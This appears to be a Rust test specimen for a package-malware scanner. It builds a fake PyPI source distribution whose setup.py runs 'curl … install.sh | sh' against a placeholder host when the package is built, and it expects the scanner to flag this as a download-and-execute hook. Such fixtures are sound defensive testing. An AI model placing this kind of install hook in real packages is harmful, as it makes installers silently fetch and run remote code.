//! A source distribution whose `setup.py` pipes a download into a shell.
//!
//! Must be found: a shell started by the build that downloads and executes.

use apa_model::Ecosystem;

use crate::{Expect, Sdist, Specimen};

const SETUP: &str = r#"import subprocess
from setuptools import setup

subprocess.call("curl -fsS --max-time 10 http://files.example/install.sh | sh", shell=True)
setup(name="fastconfig", version="0.4.2", packages=["fastconfig"])
"#;

pub(super) fn specimen() -> Specimen {
    let package = Sdist::new("fastconfig", "0.4.2", SETUP)
        .file("fastconfig/__init__.py", "VERSION = '0.4.2'\n");
    Specimen {
        name: "pypi-setup-downloads-and-runs",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["hook-downloads-and-executes"]),
    }
}
